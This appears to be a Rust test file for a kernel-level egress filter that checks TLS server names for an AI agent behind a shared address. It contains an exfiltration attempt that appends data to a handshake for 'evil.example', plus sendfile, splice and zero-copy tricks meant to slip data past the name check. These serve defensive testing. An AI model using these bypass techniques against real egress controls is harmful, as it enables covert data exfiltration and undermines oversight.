//! Behind one address are many hosts: which of them a TLS connection is for is read in the
//! kernel, and nothing but the beginning of a handshake leaves before.

use exeat_tests::puppet::Puppet;
use exeat_tests::sink::TcpSink;
use exeat_tests::stage::{AGENT, Stage};
use exeat_tests::{unique, wait};
use serde_json::json;

/// The address that several tenants share.
const SHARED: &str = "203.0.113.30";

const POLICY: &str = "\
version: 1
agents:
  worker:
    allow:
      - { host: good.example, ports: [443, 8443] }
      - { host: also.example, ports: [443] }
      - { host: 'every.example', ports: [443, 8443], tls: sni }
      - { host: open.example, ports: [443], tls: none }
      - { host: ech.example, ports: [443], ech: keep }
";

/// Hellos as OpenSSL makes them, and connections that say them to the shared address.
const SAY: &str = "
import ssl
HOST = '203.0.113.30'

def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

def say(data, port=443, host=HOST):
    s = tcp(host, port)
    s.sendall(data)
    return s
";

struct Tls {
    stage: Stage,
    sink: TcpSink,
    agent: Puppet,
}

/// An agent that has resolved the names of its policy, all of which are the shared address.
fn tls(policy: &str) -> Tls {
    let stage = Stage::new(policy, "").expect("stage");
    for name in [
        "good.example",
        "also.example",
        "every.example",
        "open.example",
        "ech.example",
        "evil.example",
    ] {
        stage.dns.set(name, &[SHARED], 60);
    }
    let sink = stage
        .world
        .tcp_sink(&format!("{SHARED}:443"))
        .expect("sink");
    let mut agent = stage.daemon.puppet(AGENT).expect("puppet");
    agent.ask(SAY).expect("functions");
    Tls { stage, sink, agent }
}

impl Tls {
    fn resolve(&mut self, name: &str) {
        let found = format!("[r[4][0] for r in getaddrinfo({name:?}, 443, type=SOCK_STREAM)]");
        let found = self.agent.value(&found).expect(name);
        assert_eq!(found, json!([SHARED]), "{name}");
    }

    /// Waits until what was said has arrived.
    fn arrives(&self, token: &str) {
        wait::until("the data", wait::patience(), || {
            self.sink.holds(token).then_some(())
        })
        .expect(token);
    }
}

#[test]
fn only_a_name_of_the_policy_leaves() {
    let mut tls = tls(
        "version: 1\nagents:\n  worker:\n    allow:\n      - { host: good.example, ports: [443] }\n",
    );
    tls.resolve("good.example");
    let token = unique::token();
    tls.agent
        .ask(&format!("s = say(hello('good.example'))\ns.sendall(b'\\x17\\x03\\x03\\x00\\x40' + {token:?}.encode())"))
        .expect("said");
    tls.arrives(&token);
    let before = tls.sink.arrivals().len();
    let evil = unique::token();
    tls.agent
        .ask(&format!(
            "t = say(hello('evil.example') + {evil:?}.encode())"
        ))
        .expect("the program is not told at once");
    let event = tls.stage.daemon.event(|e| e["reason"] == "tls_name");
    let event = event.expect("an event");
    assert_eq!(event["hook"], "egress");
    assert_eq!(event["server_name"], "evil.example");
    // ECONNABORTED, and not the end of its patience.
    assert_eq!(tls.agent.errno("t.recv(1)").expect("an error"), 103);
    assert!(!tls.sink.holds(&evil));
    let others = tls.sink.arrivals();
    assert!(
        others[before..].iter().all(|a| a.bytes.is_empty()),
        "{others:?}"
    );
}

/// A page of a file can be written to after the kernel has read the name in it.
#[test]
fn data_that_the_program_can_still_change_does_not_leave() {
    let mut tls = tls(
        "version: 1\nagents:\n  worker:\n    allow:\n      - { host: good.example, ports: [443] }\n",
    );
    tls.resolve("good.example");
    let ways = "
import tempfile
def by_sendfile(data):
    f = tempfile.TemporaryFile()
    f.write(data)
    f.flush()
    s = tcp(HOST, 443)
    os.sendfile(s.fileno(), f.fileno(), 0, len(data))
    return s
def by_splice(data):
    f = tempfile.TemporaryFile()
    f.write(data)
    f.flush()
    r, w = os.pipe()
    s = tcp(HOST, 443)
    os.splice(f.fileno(), w, len(data), offset_src=0)
    os.splice(r, s.fileno(), len(data))
    return s
def by_zerocopy(data):
    s = tcp(HOST, 443)
    s.setsockopt(SOL_SOCKET, 60, 1)
    s.send(data, 0x4000000)
    return s
";
    tls.agent.ask(ways).expect("functions");
    for way in ["by_sendfile", "by_splice", "by_zerocopy"] {
        let before = tls.sink.arrivals().len();
        tls.agent
            .ask(&format!("s = {way}(hello('good.example'))"))
            .expect(way);
        assert_eq!(tls.agent.errno("s.recv(1)").expect(way), 103, "{way}");
        let came = tls.sink.arrivals();
        assert!(came[before..].iter().all(|a| a.bytes.is_empty()), "{way}");
    }
    let event = tls.stage.daemon.event(|e| e["reason"] == "tls_shared");
    event.expect("an event");
    // Once the name is certain the program may send in any way that it likes.
    let token = unique::token();
    let whole = format!(
        "
s = say(hello('good.example'))
s.sendall(b'\\x14\\x03\\x03\\x00\\x01\\x01\\x17\\x03\\x03\\x00\\x40x')
f = tempfile.TemporaryFile()
f.write({token:?}.encode())
f.flush()
os.sendfile(s.fileno(), f.fileno(), 0, 100)
"
    );
    tls.agent.ask(&whole).expect("said");
    tls.arrives(&token);
}
